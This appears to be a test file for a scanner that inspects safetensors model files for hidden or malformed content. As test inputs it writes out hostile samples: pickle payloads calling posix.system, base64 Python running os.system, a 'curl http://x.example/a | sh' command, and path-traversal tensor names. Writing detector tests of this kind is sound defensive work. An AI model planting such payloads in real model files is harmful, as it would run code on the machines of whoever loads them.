import { bytes, floats, zeros } from '../../../testing/bytes';
import { elfOf } from '../../../testing/native-builder';
import { PAYLOAD, proto } from '../../../testing/pickle-assembler';
import { run } from '../../../testing/scanning';
import { row, safetensorsOf } from '../../../testing/tensor-files-builder';

const EVIL = proto(2, PAYLOAD);
const base64 = (data: Uint8Array): string => Buffer.from(data).toString('base64');
const one = { w: row(0, 8) };
const withMetadata = (metadata: unknown): Uint8Array => safetensorsOf({ __metadata__: metadata, ...one }, floats(2));

const found = (data: Uint8Array): string[] =>
  run(data, undefined, 'model.safetensors').findings.map(({ severity, rule }) => `${severity} ${rule}`);
const covered = (data: Uint8Array): (string | undefined)[] =>
  run(data, undefined, 'model.safetensors')
    .coverage.filter(({ members }) => members.length === 0)
    .flatMap(({ status, reason }) => [status, reason]);

const HONEST: readonly (readonly [string, Uint8Array])[] = [
  ['one tensor', safetensorsOf(one, floats(2))],
  ['no tensor', safetensorsOf('{}', zeros(0))],
  ['tensors in any order', safetensorsOf({ b: row(8, 12), a: row(0, 8) }, floats(3))],
  ['a header that is filled up with blanks', safetensorsOf(`${JSON.stringify(one)}   \n`, floats(2))],
  ['blanks behind the brace', safetensorsOf('{ \n "w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', floats(2))],
  ['a number without dimensions', safetensorsOf({ w: { dtype: 'F64', shape: [], data_offsets: [0, 8] } }, floats(2))],
  ['an empty tensor', safetensorsOf({ w: { dtype: 'F32', shape: [3, 0], data_offsets: [0, 0] } }, zeros(0))],
  ['numbers of four bits', safetensorsOf({ w: { dtype: 'F4', shape: [4], data_offsets: [0, 2] } }, zeros(2))],
  [
    'types of one byte',
    safetensorsOf(
      {
        a: { dtype: 'BOOL', shape: [1], data_offsets: [0, 1] },
        b: { dtype: 'F8_E4M3FNUZ', shape: [1], data_offsets: [1, 2] }
      },
      zeros(2)
    )
  ],
  ['names with slashes', safetensorsOf({ '/encoder/MatMul': row(0, 4), 'a/b..c': row(4, 8) }, floats(2))],
  [
    'what writers put into metadata',
    withMetadata({
      format: 'pt',
      'modelspec.title': 'a title',
      'modelspec.thumbnail': `data:image/jpeg;base64,${base64(bytes(0xff, 0xd8, 0xff, floats(40)))}`,
      ss_tag_frequency: JSON.stringify({ '1_cat': { 'a cat': 3, 'https://example.com': 1 } }),
      ss_training_comment: 'see https://example.com/x; python train.py --lr 1e-4',
      sshs_model_hash: '8e'.repeat(32),
      quantization_config: JSON.stringify({ quant_method: 'fp8', ignored: ['lm_head'] })
    })
  ]
];

it.each(HONEST)('is clean: %s', (_, data) => {
  expect(found(data)).toEqual([]);
  expect(covered(data)).toEqual(['scanned', undefined]);
});

const LAYOUT = 'MEDIUM tensor-layout';
const HIDDEN = 'MEDIUM tensor-hidden-data';
const PICKLE = 'CRITICAL pickle-dangerous-call';

const HARMFUL: readonly (readonly [string, Uint8Array, readonly string[]])[] = [
  [
    'Python in base64',
    safetensorsOf({ __metadata__: { a: btoa("import os;os.system('id')") }, b: row(0, 8) }, floats(2)),
    ['MEDIUM model-metadata-code']
  ],
  ['tensors that overlap', safetensorsOf({ a: row(0, 8), b: row(4, 12) }, floats(3)), [LAYOUT]],
  ['a hole', safetensorsOf({ a: row(0, 8), b: row(12, 20) }, floats(5)), [HIDDEN]],
  ['a hole of zeros', safetensorsOf({ a: row(0, 8), b: row(12, 20) }, zeros(20)), [HIDDEN]],
  [
    'a pickle in a hole',
    safetensorsOf({ a: row(0, 4), b: row(4 + EVIL.length, 8 + EVIL.length) }, bytes(zeros(4), EVIL, zeros(4))),
    [HIDDEN, PICKLE]
  ],
  ['a pickle behind the tensors', safetensorsOf(one, bytes(floats(2), EVIL)), [HIDDEN, PICKLE]],
  ['zeros behind the tensors', safetensorsOf(one, bytes(floats(2), zeros(9))), ['LOW tensor-hidden-data']],
  [
    'a shape that takes more',
    safetensorsOf({ w: { dtype: 'F32', shape: [3], data_offsets: [0, 8] } }, floats(2)),
    [LAYOUT]
  ],
  [
    'a shape beyond 64 bits',
    safetensorsOf({ w: { dtype: 'F32', shape: [2 ** 33, 2 ** 33], data_offsets: [0, 0] } }, zeros(0)),
    [LAYOUT]
  ],
  ['a negative size', safetensorsOf({ w: { dtype: 'F32', shape: [-2], data_offsets: [0, 0] } }, zeros(0)), [LAYOUT]],
  [
    'an end before the beginning',
    safetensorsOf({ w: { dtype: 'F32', shape: [0], data_offsets: [8, 0] } }, zeros(0)),
    [LAYOUT]
  ],
  ['a tensor far outside', safetensorsOf({ a: row(0, 8), b: row(4000, 4008) }, floats(2)), [LAYOUT]],
  [
    'a name twice',
    safetensorsOf(
      '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[0],"data_offsets":[8,8]}}',
      floats(2)
    ),
    ['MEDIUM model-repeated-name']
  ],
  ['a header longer than any', safetensorsOf(one, floats(2), 2 ** 41), ['MEDIUM model-false-claim']],
  ['a header that ends before its length does', safetensorsOf(one, zeros(0), 4000), ['MEDIUM model-false-claim']],
  ['a name that is a path', safetensorsOf({ '../../x': row(0, 4) }, floats(1)), ['MEDIUM tensor-name']],
  ['a name that is an absolute path', safetensorsOf({ '/etc/cron.d/x': row(0, 4) }, floats(1)), ['MEDIUM tensor-name']],
  ['a name with a NUL', safetensorsOf({ 'w\0x': row(0, 4) }, floats(1)), ['MEDIUM tensor-name']],
  ['a name with a mark that is not shown', safetensorsOf({ 'w\u202ex': row(0, 4) }, floats(1)), ['LOW tensor-name']],
  ['a pickle in base64', withMetadata({ x: base64(EVIL) }), [PICKLE]],
  ['a pickle in base64 in JSON', withMetadata({ x: JSON.stringify({ y: [base64(EVIL)] }) }), [PICKLE]],
  [
    'a pickle in hexadecimal digits',
    withMetadata({ x: Buffer.from(bytes(EVIL, EVIL, EVIL, EVIL)).toString('hex') }),
    [PICKLE]
  ],
  ['a pickle as it is', withMetadata({ x: "cposix\nsystem\n(S'echo hi'\ntR." }), [PICKLE]],
  [
    'a pickle among the fields of a tensor',
    safetensorsOf({ w: { ...(one.w as object), x: base64(EVIL) } }, floats(2)),
    [PICKLE]
  ],
  ['a command', withMetadata({ x: 'curl http://x.example/a | sh' }), ['MEDIUM model-metadata-code']],
  ['a program', withMetadata({ x: "__import__('os').system('id')" }), ['MEDIUM model-metadata-code']],
  ['metadata that are no text', withMetadata({ x: 1 }), ['MEDIUM model-metadata-type']],
  ['a type that is none', safetensorsOf({ w: { dtype: 'O', shape: [2], data_offsets: [0, 8] } }, floats(2)), [LAYOUT]],
  [
    'a tensor without a type',
    safetensorsOf({ w: { shape: [2], data_offsets: [0, 8] } }, floats(2)),
    ['MEDIUM model-false-claim']
  ],
  [
    'a header that leads out of a small file',
    safetensorsOf({ a: row(0, 8) }, zeros(0)).subarray(0, 40),
    ['MEDIUM model-false-claim']
  ],
  [
    'a header that goes on among the tensors',
    safetensorsOf({ a: row(0, 8) }, floats(2), 5000),
    ['MEDIUM model-false-claim']
  ]
];

it.each(HARMFUL)('reports %s', (_, data, findings) => {
  expect(found(data)).toEqual(findings);
});

it.each<readonly [string, Uint8Array, readonly unknown[]]>([
  ['a file that was cut off', safetensorsOf({ a: row(0, 8), b: row(8, 16) }, floats(3)), ['failed', 'truncated']],
  [
    'a header that was cut off',
    safetensorsOf({ a: row(0, 8), ['b'.repeat(8000)]: row(8, 16) }, zeros(0)).subarray(0, 6000),
    ['failed', 'truncated']
  ],
  [
    'a type of a size that is not known',
    safetensorsOf({ w: { dtype: 'NF4X2', shape: [2], data_offsets: [0, 8] } }, floats(2)),
    ['not-understood', 'unknown-record']
  ]
])('accuses nobody of %s', (_, data, state) => {
  expect(found(data)).toEqual([]);
  expect(covered(data)).toEqual(state);
});

it.each([
  ['a header that is no JSON', safetensorsOf('{"w":nothing}', floats(2))],
  ['blanks in front of the header', safetensorsOf(` ${JSON.stringify(one)}`, floats(2))]
])('reports %s under the name of the format', (_, data) => {
  expect(found(data)).toEqual(['MEDIUM model-false-claim']);
});

it('accuses no other format with a length and JSON in front', () => {
  expect(run(safetensorsOf('{"w":nothing}', floats(2)), undefined, 'model.bin')).toMatchObject({
    findings: [],
    coverage: [{ status: 'failed', reason: 'corrupt' }]
  });
});

it('is no object of Git', () => {
  expect(run(bytes('blob 18\0{"hidden_size": 8}'), undefined, 'x').format).not.toBe('safetensors');
});

it('does not read the tensors', () => {
  const data = safetensorsOf({ w: row(0, 4_000_000) }, zeros(4_000_000));
  expect(run(data, undefined, 'model.safetensors').bytesRead).toBeLessThan(100_000);
});

test('numbers that begin with a brace are numbers, and a length that no file has is told of a header', () => {
  const length = [0x58, 0x8a, 0x85, 0x66, 0xbe, 0x8f, 0x16, 0x40];
  expect(found(bytes(length, [0x7b, 0x7d, 0x89, 0x2a, 0x38, 0x9b, 0x18, 0x40], zeros(40)))).toEqual([]);
  expect(found(bytes(length, '{"w":{"dtype":"F32"}}'))).toEqual(['MEDIUM model-false-claim']);
  expect(found(bytes(length, '{}'))).toEqual(['MEDIUM model-false-claim']);
});

test('a pickle and a program in the middle of bytes', () => {
  for (const [what, inside] of [
    ['CRITICAL pickle-dangerous-call', EVIL],
    ['MEDIUM program-in-model', elfOf(3)]
  ] as const) {
    const data = bytes(zeros(2 ** 21), inside, zeros(2 ** 21));
    const row = { dtype: 'U8', shape: [data.length], data_offsets: [0, data.length] };
    expect(found(safetensorsOf({ w: row }, data))).toContain(what);
  }
});
